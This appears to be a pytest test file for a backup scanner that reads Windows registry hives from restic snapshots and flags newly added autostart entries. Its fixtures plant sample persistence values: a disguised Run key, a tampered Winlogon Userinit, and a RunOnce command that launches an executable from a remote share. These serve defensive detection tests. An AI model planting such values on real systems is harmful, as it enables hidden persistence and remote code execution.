"""`restore backups scan` on a backed-up Windows volume: Run keys read from its registry hives.

The hives are real (written by hivex, see tests/hives.py) and backed up with restic, a day
at a time, as a Windows host's volume would be: day 1 and 2 clean (day 2's hives change,
but not their autostart values); day 3 adds a Run value to the machine's SOFTWARE hive;
day 4 adds a user's RunOnce value and changes Winlogon's Userinit; day 5 brings a second
user whose hive is corrupt.
"""

from __future__ import annotations

import json
import subprocess
import sys
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from restore.backups import registry_hives, seed
from restore.backups.analysis import Rules
from restore.backups.locate import source_for
from restore.backups.scan import ScanOptions, scan_host
from restore.inputs.inventory import load_inventory
from restore.integrity.checks.indicators import load_indicators
from tests.hives import write_hive

PASSWORD = "lab-restic-password"
TAG = "win-fs"
RUN = r"Microsoft\Windows\CurrentVersion\Run"
WINLOGON = r"Microsoft\Windows NT\CurrentVersion\Winlogon"
SOFTWARE = "C/Windows/System32/config/SOFTWARE"
ALICE = "C/Users/alice/NTUSER.DAT"
MALLORY = "C/Users/mallory/NTUSER.DAT"
PLANTED = "C:\\ProgramData\\svc\\updater.exe -silent"


def _software(root: Path, day: int) -> None:
    keys: dict[str, dict[str, str]] = {
        RUN: {"SecurityHealth": r"%windir%\system32\SecurityHealthSystray.exe"},
        WINLOGON: {"Shell": "explorer.exe", "Userinit": "C:\\Windows\\system32\\userinit.exe,"},
        r"Microsoft\Windows\CurrentVersion\Uninstall\Office": {"DisplayVersion": f"16.0.{day}"},
    }
    if day >= 3:
        keys[RUN]["WindowsUpdateSvc"] = PLANTED
    if day >= 4:
        keys[WINLOGON]["Userinit"] = "C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\u.exe"
    write_hive(root / SOFTWARE, keys)


def _alice(root: Path, day: int) -> None:
    keys: dict[str, dict[str, str]] = {
        r"Software\Microsoft\Office": {"LastOpened": f"report-{day}.docx"},
        rf"Software\{RUN}": {"OneDrive": "C:\\Users\\alice\\OneDrive.exe /background"},
    }
    if day >= 4:
        keys[rf"Software\{RUN}Once"] = {"x": 'cmd /c "start \\\\203.0.113.7\\s\\a.exe"'}
    write_hive(root / ALICE, keys, name="NTUSER.DAT")


def _build(workdir: Path) -> Path:
    repo, root = workdir / "repo", workdir / "host"
    seed.restic(repo, PASSWORD, "init")
    start = datetime(2026, 11, 10, 2, 0, 0)
    for day in range(1, 6):
        _software(root, day)
        _alice(root, day)
        if day == 5:
            (root / MALLORY).parent.mkdir(parents=True)
            (root / MALLORY).write_bytes(b"regf" + b"\xff" * 8188)
        seed.backup(repo, PASSWORD, root, start + timedelta(days=day - 1), TAG)
    return repo


@pytest.fixture(scope="module")
def inventory(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("winbackups")
    repo = _build(base / "win")
    hosts = {
        "win01": {
            "restore_data_backup_host": "backup01",
            "restore_data_repository": str(repo),
            "restore_data_tag": TAG,
        },
        "backup01": {"ansible_connection": "local"},
    }
    path = base / "inventory.yml"
    path.write_text(
        json.dumps({"all": {"vars": {"restore_data_password": PASSWORD}, "hosts": hosts}})
    )
    return path


def _findings(snapshot: dict[str, Any]) -> list[tuple[str, str, str]]:
    return sorted((f["check"], f["path"], f["detail"]) for f in snapshot["findings"])


def test_a_planted_run_value_is_named_and_the_day_before_is_the_last_clean(
    inventory: Path,
) -> None:
    argv = ["backups", "scan", "-i", str(inventory), "win01", "--format", "json"]
    proc = subprocess.run(
        [sys.executable, "-m", "restore", *argv],
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert proc.returncode == 0, proc.stderr
    (host,) = json.loads(proc.stdout)["hosts"]
    snapshots = host["snapshots"]
    assert [s["verdict"] for s in snapshots] == ["clean", "clean"] + ["suspect"] * 3
    assert host["last_clean"] == {"id": snapshots[1]["id"], "time": snapshots[1]["time"]}
    assert snapshots[1]["time"].startswith("2026-11-11T02:00:00")
    software = "/" + SOFTWARE
    assert _findings(snapshots[2]) == [
        (
            "persistence_run_key",
            software,
            rf"added since the baseline: HKLM\SOFTWARE\{RUN} value 'WindowsUpdateSvc' = "
            + repr(PLANTED),
        )
    ]
    day4 = _findings(snapshots[3])
    assert [(c, p) for c, p, _ in day4] == [
        ("persistence_run_key", "/" + ALICE),
        ("persistence_run_key", software),
        ("persistence_run_key", software),
    ]
    assert day4[0][2] == (
        rf"added since the baseline: HKCU\Software\{RUN}Once value 'x' = "
        + repr('cmd /c "start \\\\203.0.113.7\\s\\a.exe"')
    )
    assert any(
        d.startswith(rf"changed since the baseline: HKLM\SOFTWARE\{WINLOGON} value 'Userinit'")
        and d.endswith(r"(was 'C:\\Windows\\system32\\userinit.exe,')")
        for _, _, d in day4
    )
    day5 = _findings(snapshots[4])
    unparsed = [(p, d) for c, p, d in day5 if c == "unparsed_hive"]
    assert len(unparsed) == 1 and unparsed[0][0] == "/" + MALLORY
    assert unparsed[0][1].startswith("registry hive not fully read: 'not a hive regipy can read")


def test_native_reader_and_restic_binary_read_hives_alike(inventory: Path) -> None:
    """Hives are read whole (up to their own cap, above the file cap) by both readers."""
    inv = load_inventory([inventory], with_secrets=True)
    source = source_for(inv.host("win01"), inv, None)
    rules = Rules(indicators=load_indicators())
    by_reader = {}
    for reader in ("native", "restic"):
        # a 4 KiB file cap: every hive here is larger, and must still be parsed whole
        result = scan_host(source, ScanOptions(rules=rules, file_cap=4096, reader=reader))
        assert result.error is None
        data = result.to_json()
        data.pop("read")
        by_reader[reader] = data
    assert by_reader["native"] == by_reader["restic"]
    verdicts = [s["verdict"] for s in by_reader["native"]["snapshots"]]
    assert verdicts == ["clean", "clean"] + ["suspect"] * 3


def test_a_hive_above_the_hive_cap_is_a_finding_not_read(
    inventory: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(registry_hives, "HIVE_CAP", 8192)  # every hive here is larger
    inv = load_inventory([inventory], with_secrets=True)
    source = source_for(inv.host("win01"), inv, None)
    rules = Rules(indicators=load_indicators())
    for reader in ("native", "restic"):
        result = scan_host(source, ScanOptions(rules=rules, reader=reader))
        assert result.error is None and result.last_clean is None
        first = result.snapshots[0]
        assert first.verdict == "suspect"
        assert {(f.check, f.path, f.detail) for f in first.findings} == {
            (
                "unparsed_hive",
                "/" + path,
                "registry hive not fully read: 'larger than the hive cap (8192 bytes)'",
            )
            for path in (SOFTWARE, ALICE)
        }
